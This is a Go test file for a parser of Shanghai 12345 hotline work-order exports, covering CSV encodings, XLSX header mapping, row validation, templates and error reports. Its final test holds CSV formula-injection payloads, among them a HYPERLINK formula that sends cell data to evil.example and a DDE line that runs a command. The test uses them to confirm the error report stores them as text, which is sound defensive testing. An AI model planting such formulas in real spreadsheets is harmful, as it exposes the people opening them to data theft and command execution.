package hotline

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/simplifiedchinese"
)

const csvHeader = "工单编号,来电时间,诉求人,联系电话,诉求地址,经度,纬度,诉求类型,诉求分类,诉求内容,办理时限,街镇\n"

// readAll drains a reader, failing the test on a stream error.
func readAll(t *testing.T, r *Reader) ([]Row, [][]RowError) {
	t.Helper()
	var rows []Row
	var errs [][]RowError
	for {
		row, rerrs, err := r.Next()
		if err == io.EOF {
			return rows, errs
		}
		if err != nil {
			t.Fatalf("Next: %v", err)
		}
		rows = append(rows, row)
		errs = append(errs, rerrs)
	}
}

func newCSV(t *testing.T, text string) *Reader {
	t.Helper()
	r, err := NewCSV(strings.NewReader(text), Auto)
	if err != nil {
		t.Fatalf("NewCSV: %v", err)
	}
	t.Cleanup(func() { r.Close() })
	return r
}

func sh(y, mo, d, h, mi, s int) time.Time {
	return time.Date(y, time.Month(mo), d, h, mi, s, 0, shanghai)
}

// writeXLSX builds a workbook cell by cell: cells maps "B3" to a value of
// any type excelize accepts (string, float64, time.Time …).
func writeXLSX(t *testing.T, build func(f *excelize.File, sheet string)) []byte {
	t.Helper()
	f := excelize.NewFile()
	defer f.Close()
	build(f, "Sheet1")
	var buf bytes.Buffer
	if _, err := f.WriteTo(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func set(t *testing.T, f *excelize.File, sheet, cell string, v any) {
	t.Helper()
	if err := f.SetCellValue(sheet, cell, v); err != nil {
		t.Fatal(err)
	}
}

func TestXLSXRealExport(t *testing.T) {
	t.Parallel()
	data := writeXLSX(t, func(f *excelize.File, s string) {
		// A merged title, a subtitle, a blank row, then a shuffled header
		// with unknown columns (序号, 处理部门) and synonyms.
		set(t, f, s, "A1", "新泾镇12345市民服务热线工单导出")
		if err := f.MergeCell(s, "A1", "J1"); err != nil {
			t.Fatal(err)
		}
		set(t, f, s, "A2", "导出时间：2025年10月1日")
		header := []any{"序号", "诉求内容", "受理时间", "热线工单号", "处理部门", "手机号码", "来电类型", "纬度", "经度", "时限(工作日)", "所属街镇"}
		if err := f.SetSheetRow(s, "A4", &header); err != nil {
			t.Fatal(err)
		}
		dateStyle, _ := f.NewStyle(&excelize.Style{NumFmt: 22})
		// Row 5: a numeric serial date cell with a date format.
		r5 := []any{1, " 路灯不亮 ", 45930.41875, "HL001", "城管中队", "１３８ ００１３ ８０００", "投诉", 31.2186, 121.3652, 5, "新泾镇"}
		if err := f.SetSheetRow(s, "A5", &r5); err != nil {
			t.Fatal(err)
		}
		_ = f.SetCellStyle(s, "C5", "C5", dateStyle)
		// Row 6: a time.Time cell (excelize stores a serial) and text days.
		r6 := []any{2, "噪声扰民", sh(2025, 10, 1, 8, 30, 0), "HL002", "", "021-62345678", "咨询", "", "", "3个工作日", ""}
		if err := f.SetSheetRow(s, "A6", &r6); err != nil {
			t.Fatal(err)
		}
		// Row 7: a text date and a phone stored as a number.
		r7 := []any{3, "建议增设非机动车停车点", "2025年9月30日 14时05分", "HL003", "", 13900139000, "建议", "", "", "", ""}
		if err := f.SetSheetRow(s, "A7", &r7); err != nil {
			t.Fatal(err)
		}
		// Trailing rows that hold only spaces or a sequence number style "".
		set(t, f, s, "B9", "  ")
		set(t, f, s, "D12", "")
	})
	r, err := NewXLSX(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	h := r.Header()
	if h["hotline_id"] != "热线工单号" || h["received_at"] != "受理时间" || h["limit_days"] != "时限(工作日)" {
		t.Errorf("Header() = %v", h)
	}
	if _, ok := h["caller"]; ok {
		t.Errorf("Header() reports an absent column: %v", h)
	}
	rows, errs := readAll(t, r)
	if len(rows) != 3 {
		t.Fatalf("got %d rows, want 3: %+v", len(rows), rows)
	}
	for i, e := range errs {
		if len(e) != 0 {
			t.Errorf("row %d: unexpected errors %v", rows[i].Line, e)
		}
	}
	want := []struct {
		line  int
		id    string
		at    time.Time
		phone string
		kind  string
		days  int
	}{
		{5, "HL001", sh(2025, 9, 30, 10, 3, 0), "13800138000", "complaint", 5},
		{6, "HL002", sh(2025, 10, 1, 8, 30, 0), "021-62345678", "consult", 3},
		{7, "HL003", sh(2025, 9, 30, 14, 5, 0), "13900139000", "suggestion", 0},
	}
	for i, w := range want {
		g := rows[i]
		if g.Line != w.line || g.HotlineID != w.id || !g.ReceivedAt.Equal(w.at) || g.Phone != w.phone || g.Kind != w.kind || g.LimitDays != w.days {
			t.Errorf("row %d = %+v, want %+v", i, g, w)
		}
	}
	if rows[0].Content != "路灯不亮" || rows[0].Town != "新泾镇" {
		t.Errorf("row 5 text fields = %q, %q", rows[0].Content, rows[0].Town)
	}
	if rows[0].Lat == nil || *rows[0].Lat != 31.2186 || rows[0].Lng == nil || *rows[0].Lng != 121.3652 {
		t.Errorf("row 5 coordinates = %v, %v", rows[0].Lat, rows[0].Lng)
	}
	if rows[1].Lat != nil || rows[1].Lng != nil {
		t.Error("row 6 should have no coordinates")
	}
}

func TestCSVEncodings(t *testing.T) {
	t.Parallel()
	text := csvHeader +
		"HL100,2025-09-30 10:03,张先生,13800138000,长宁区新泾镇仙霞西路,121.36,31.21,求助,市容环境,\"井盖缺失，\n夜间危险\",5,新泾镇\n"
	gb, err := simplifiedchinese.GB18030.NewEncoder().String(text)
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name string
		data string
		enc  Encoding
	}{
		{"utf8", text, Auto},
		{"utf8 bom", "\ufeff" + text, Auto},
		{"utf8 explicit", "\ufeff" + text, UTF8},
		{"gb18030 auto", gb, Auto},
		{"gb18030 explicit", gb, GB18030},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r, err := NewCSV(strings.NewReader(tt.data), tt.enc)
			if err != nil {
				t.Fatal(err)
			}
			rows, errs := readAll(t, r)
			if len(rows) != 1 || len(errs[0]) != 0 {
				t.Fatalf("rows %+v errs %v", rows, errs)
			}
			g := rows[0]
			if g.Line != 2 || g.Caller != "张先生" || g.Content != "井盖缺失，\n夜间危险" || g.Kind != "help" || g.Town != "新泾镇" {
				t.Errorf("row = %+v", g)
			}
		})
	}
	if _, err := NewCSV(strings.NewReader(gb), UTF8); err == nil {
		t.Error("GB18030 read as UTF-8 should not find the header")
	}
	if _, err := NewCSV(bytes.NewReader([]byte{0xFF, 0xFE, 'a', 0}), Auto); err == nil || !strings.Contains(err.Error(), "UTF-16") {
		t.Errorf("UTF-16 error = %v", err)
	}
}

func TestCSVLineNumbers(t *testing.T) {
	t.Parallel()
	// Line counts what Excel shows: title rows, a blank line, and a quoted
	// cell spanning three physical lines that is still one row.
	text := "12345工单导出,,,\n" +
		"\n" +
		"工单编号,来电时间,诉求内容,备注\n" +
		"A1,2025-09-30,\"第一行\n第二行\n第三行\",x\n" +
		"\n" +
		"A2,2025-09-30,正常,\n" +
		",,,\n" +
		"A3,2025-09-30,\"末列\n换行\"\n" +
		"A4,2025-09-30,最后\n" +
		",,,\n\n"
	rows, errs := readAll(t, newCSV(t, text))
	wantLines := []int{4, 6, 8, 9}
	if len(rows) != len(wantLines) {
		t.Fatalf("got %d rows: %+v", len(rows), rows)
	}
	for i, w := range wantLines {
		if rows[i].Line != w || len(errs[i]) != 0 {
			t.Errorf("row %s: Line %d errs %v, want line %d", rows[i].HotlineID, rows[i].Line, errs[i], w)
		}
	}
}

func TestBadRows(t *testing.T) {
	t.Parallel()
	good := []string{"HL1", "2025-09-30 10:03", "李女士", "13800138000", "天山西路", "121.36", "31.21", "投诉", "市容", "内容", "5", "新泾镇"}
	tests := []struct {
		name   string
		edit   func(c []string)
		column string
		field  string
		reason string
	}{
		{"missing id", func(c []string) { c[0] = " " }, "工单编号", "hotline_id", "不能为空"},
		{"scientific id", func(c []string) { c[0] = "2.02509E+13" }, "工单编号", "hotline_id", "科学计数法"},
		{"missing time", func(c []string) { c[1] = "" }, "来电时间", "received_at", "不能为空"},
		{"bad month", func(c []string) { c[1] = "2025-13-01" }, "来电时间", "received_at", `无法识别的日期 "2025-13-01"`},
		{"old date", func(c []string) { c[1] = "1999-12-31" }, "来电时间", "received_at", "超出合理范围"},
		{"bad phone", func(c []string) { c[3] = "12345" }, "联系电话", "phone", "位数不对"},
		{"two phones", func(c []string) { c[3] = "13800138000/13900139000" }, "联系电话", "phone", "只能填写一个号码"},
		{"lng only", func(c []string) { c[6] = "" }, "纬度", "lat", "纬度也必须填写"},
		{"lat only", func(c []string) { c[5] = "" }, "经度", "lng", "经度也必须填写"},
		{"swapped", func(c []string) { c[5], c[6] = "31.21", "121.36" }, "经度", "lng", "填反"},
		{"outside shanghai", func(c []string) { c[5] = "116.40" }, "经度", "lng", "不在上海范围内"},
		{"lng not number", func(c []string) { c[5] = "东经121" }, "经度", "lng", "不是数字"},
		{"unknown kind", func(c []string) { c[7] = "闲聊" }, "诉求类型", "kind", `未知的诉求类型 "闲聊"`},
		{"empty content", func(c []string) { c[9] = "　" }, "诉求内容", "content", "不能为空"},
		{"long content", func(c []string) { c[9] = strings.Repeat("长", 4001) }, "诉求内容", "content", "过长"},
		{"zero days", func(c []string) { c[10] = "0" }, "办理时限", "limit_days", "正整数"},
		{"text days", func(c []string) { c[10] = "尽快" }, "办理时限", "limit_days", "正整数"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			cells := append([]string(nil), good...)
			tt.edit(cells)
			var b strings.Builder
			b.WriteString(csvHeader)
			b.WriteString(strings.Join(good, ",") + "\n") // line 2: fine
			cells[0] = strings.Replace(cells[0], "HL1", "HL2", 1)
			b.WriteString(strings.Join(cells, ",") + "\n") // line 3: broken
			rows, errs := readAll(t, newCSV(t, b.String()))
			if len(rows) != 2 || len(errs[0]) != 0 {
				t.Fatalf("rows %+v errs %v", rows, errs)
			}
			if rows[1].Line != 3 || len(errs[1]) != 1 {
				t.Fatalf("line %d errs %v, want exactly one error on line 3", rows[1].Line, errs[1])
			}
			e := errs[1][0]
			if e.Line != 3 || e.Column != tt.column || e.Field != tt.field || !strings.Contains(e.Reason, tt.reason) {
				t.Errorf("error = %+v, want column %s field %s reason ~%q", e, tt.column, tt.field, tt.reason)
			}
			if msg := e.Error(); !strings.HasPrefix(msg, "第3行 “"+tt.column+"”") || !strings.Contains(msg, "(row 3, column "+tt.column+")") {
				t.Errorf("Error() = %q", msg)
			}
		})
	}
}

func TestDuplicateAndMultipleErrors(t *testing.T) {
	t.Parallel()
	text := "编号,登记时间,问题描述,电话\n" +
		"X1,2025-09-30,第一次,\n" +
		"X2,2025-09-30,另一单,\n" +
		"X1,2025-10-01,重复,\n" +
		"X3,明天,,abc\n"
	rows, errs := readAll(t, newCSV(t, text))
	if len(rows) != 4 {
		t.Fatalf("rows %+v", rows)
	}
	if len(errs[2]) != 1 || errs[2][0].Column != "编号" || !strings.Contains(errs[2][0].Reason, "与第2行重复") {
		t.Errorf("duplicate errors = %v", errs[2])
	}
	if got := len(errs[3]); got != 3 {
		t.Errorf("row 5 has %d errors, want 3 (time, content, phone): %v", got, errs[3])
	}
	for _, e := range errs[3] {
		if e.Line != 5 {
			t.Errorf("error on line %d, want 5", e.Line)
		}
	}
}

func TestMissingHeader(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, text string
		missing    []string
		line       int
	}{
		{"no content column", "工单编号,来电时间,诉求人\nA,2025-09-30,王\n", []string{"诉求内容"}, 1},
		{"no time nor content", "title\n工单编号,姓名\nA,王\n", []string{"来电时间", "诉求内容"}, 2},
		{"nothing known", "a,b,c\n1,2,3\n", []string{"工单编号", "来电时间", "诉求内容"}, 0},
		{"empty file", "", []string{"工单编号", "来电时间", "诉求内容"}, 0},
		{"header below row 10", strings.Repeat("标题\n", 10) + csvHeader, []string{"工单编号", "来电时间", "诉求内容"}, 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := NewCSV(strings.NewReader(tt.text), Auto)
			var he *HeaderError
			if !errors.As(err, &he) {
				t.Fatalf("err = %v, want *HeaderError", err)
			}
			if strings.Join(he.Missing, ",") != strings.Join(tt.missing, ",") || he.Line != tt.line {
				t.Errorf("HeaderError = %+v, want missing %v line %d", he, tt.missing, tt.line)
			}
			for _, m := range tt.missing {
				if !strings.Contains(err.Error(), m) {
					t.Errorf("message %q does not name %s", err, m)
				}
			}
		})
	}
}

func TestSkipTo(t *testing.T) {
	t.Parallel()
	var b strings.Builder
	b.WriteString("标题\n" + csvHeader)
	for i := 0; i < 30; i++ {
		b.WriteString("ID" + string(rune('A'+i)) + ",2025-09-30,内容,,,,,,,,,\n")
	}
	csvData := b.String()
	xlsxData := writeXLSX(t, func(f *excelize.File, s string) {
		set(t, f, s, "A1", "标题")
		set(t, f, s, "A2", "工单编号")
		set(t, f, s, "B2", "来电时间")
		set(t, f, s, "C2", "诉求内容")
		for i := 0; i < 30; i++ {
			row := []any{"ID" + string(rune('A'+i)), "2025-09-30", "内容"}
			cell, _ := excelize.CoordinatesToCellName(1, i+3)
			_ = f.SetSheetRow(s, cell, &row)
		}
	})
	open := map[string]func() (*Reader, error){
		"csv":  func() (*Reader, error) { return NewCSV(strings.NewReader(csvData), Auto) },
		"xlsx": func() (*Reader, error) { return NewXLSX(bytes.NewReader(xlsxData)) },
	}
	// Data rows sit on lines 3..32.
	tests := []struct {
		skip      int
		firstLine int
		count     int
	}{
		{0, 3, 30}, {2, 3, 30}, {3, 4, 29}, {5, 6, 27}, {11, 12, 21}, {20, 21, 12}, {32, 0, 0}, {100, 0, 0},
	}
	for name, mk := range open {
		for _, tt := range tests {
			r, err := mk()
			if err != nil {
				t.Fatal(err)
			}
			if err := r.SkipTo(tt.skip); err != nil {
				t.Fatal(err)
			}
			rows, _ := readAll(t, r)
			r.Close()
			if len(rows) != tt.count || (tt.count > 0 && rows[0].Line != tt.firstLine) {
				first := 0
				if len(rows) > 0 {
					first = rows[0].Line
				}
				t.Errorf("%s SkipTo(%d): %d rows from line %d, want %d from %d", name, tt.skip, len(rows), first, tt.count, tt.firstLine)
			}
		}
	}
}

func TestFromFields(t *testing.T) {
	t.Parallel()
	row, errs := FromFields(7, map[string]string{
		"hotline_id": "J1", "受理时间": "2025-09-30T10:03:00+08:00", "content": "内容", "手机": "+86 139 0013 9000",
		"lat": "31.2", "lng": "121.4", "类型": "表扬", "unknown": "ignored",
	})
	if len(errs) != 0 || row.Line != 7 || row.HotlineID != "J1" || row.Phone != "13900139000" || row.Kind != "praise" ||
		!row.ReceivedAt.Equal(sh(2025, 9, 30, 10, 3, 0)) || row.Lat == nil || *row.Lat != 31.2 {
		t.Errorf("FromFields = %+v, %v", row, errs)
	}
	_, errs = FromFields(1, map[string]string{"工单号": "J2", "来电时间": "不知道", "内容": "x"})
	if len(errs) != 1 || errs[0].Column != "来电时间" || errs[0].Field != "received_at" {
		t.Errorf("errors = %v", errs)
	}
	// An empty synonym must not hide a filled one.
	row, errs = FromFields(1, map[string]string{"工单编号": "", "编号": "J3", "来电时间": "2025-09-30", "诉求内容": "x"})
	if len(errs) != 0 || row.HotlineID != "J3" {
		t.Errorf("synonym precedence: %+v %v", row, errs)
	}
}

func TestTemplateRoundTrip(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	if err := WriteTemplate(&buf); err != nil {
		t.Fatal(err)
	}
	r, err := NewXLSX(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	if len(r.Header()) != int(numFields) {
		t.Errorf("template header maps %d fields, want %d", len(r.Header()), numFields)
	}
	rows, errs := readAll(t, r)
	if len(rows) != 1 || len(errs[0]) != 0 || rows[0].HotlineID != example[fHotlineID] || rows[0].Line != 2 {
		t.Fatalf("example row %+v %v", rows, errs)
	}
	f, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); len(got) != 2 || got[1] != "说明" {
		t.Errorf("sheets = %v", got)
	}
	help, _ := f.GetRows("说明")
	if len(help) < int(numFields)+1 || help[1][0] != "工单编号" || help[1][1] != "必填" {
		t.Errorf("说明 sheet = %v", help)
	}
}

func TestWriteErrorReport(t *testing.T) {
	t.Parallel()
	errs := []RowError{
		{Line: 3, Column: "来电时间", Field: "received_at", Reason: `无法识别的日期 "2025-13-01"`},
		{Line: 9, Column: "联系电话", Field: "phone", Reason: "电话号码位数不对"},
	}
	var buf bytes.Buffer
	if err := WriteErrorReport(&buf, errs); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	got, err := f.GetRows(f.GetSheetList()[0])
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"行号", "列", "原因"}, {"3", "来电时间", `无法识别的日期 "2025-13-01"`}, {"9", "联系电话", "电话号码位数不对"}}
	if len(got) != len(want) {
		t.Fatalf("report rows = %v", got)
	}
	for i := range want {
		if strings.Join(got[i], "|") != strings.Join(want[i], "|") {
			t.Errorf("report row %d = %v, want %v", i+1, got[i], want[i])
		}
	}
}

func TestOpen(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	csvPath := filepath.Join(dir, "orders.CSV")
	gb, _ := simplifiedchinese.GB18030.NewEncoder().String(csvHeader + "H1,2025-09-30,王,,,,,,,内容,,\n")
	if err := os.WriteFile(csvPath, []byte(gb), 0o600); err != nil {
		t.Fatal(err)
	}
	var tpl bytes.Buffer
	if err := WriteTemplate(&tpl); err != nil {
		t.Fatal(err)
	}
	xlsxPath := filepath.Join(dir, "orders.xlsx")
	if err := os.WriteFile(xlsxPath, tpl.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{csvPath, xlsxPath} {
		r, err := Open(p, Auto)
		if err != nil {
			t.Fatalf("Open(%s): %v", p, err)
		}
		rows, _ := readAll(t, r)
		if err := r.Close(); err != nil {
			t.Error(err)
		}
		if len(rows) != 1 {
			t.Errorf("Open(%s): %d rows", p, len(rows))
		}
	}
	for _, p := range []string{filepath.Join(dir, "old.xls"), filepath.Join(dir, "a.pdf"), filepath.Join(dir, "missing.csv")} {
		if _, err := Open(p, Auto); err == nil {
			t.Errorf("Open(%s) succeeded", p)
		}
	}
	bad := filepath.Join(dir, "bad.csv")
	_ = os.WriteFile(bad, []byte("工单编号,诉求人\n"), 0o600)
	if _, err := Open(bad, Auto); err == nil || !strings.Contains(err.Error(), "来电时间") {
		t.Errorf("Open(bad) err = %v", err)
	}
}

// A cell of the error report that quotes what a caller typed stays text: "=HYPERLINK(…)" or
// "@SUM(…)" in a reason must not become a formula that Excel runs when the dispatcher opens it.
func TestErrorReportCellsAreNeverFormulas(t *testing.T) {
	t.Parallel()
	payloads := []string{`=HYPERLINK("http://evil.example/?"&A1,"点击")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1"}
	var errs []RowError
	for i, p := range payloads {
		errs = append(errs, RowError{Line: i + 2, Column: p, Field: "content", Reason: p})
	}
	var buf bytes.Buffer
	if err := WriteErrorReport(&buf, errs); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sheet := f.GetSheetList()[0]
	for i, p := range payloads {
		for _, col := range []string{"B", "C"} {
			cell := fmt.Sprintf("%s%d", col, i+2)
			if formula, err := f.GetCellFormula(sheet, cell); err != nil || formula != "" {
				t.Errorf("%s holds formula %q (%v), want text", cell, formula, err)
			}
			if typ, _ := f.GetCellType(sheet, cell); typ == excelize.CellTypeFormula {
				t.Errorf("%s is a formula cell", cell)
			}
			if v, _ := f.GetCellValue(sheet, cell); v != p {
				t.Errorf("%s = %q, want the text %q kept as typed", cell, v, p)
			}
		}
	}
}
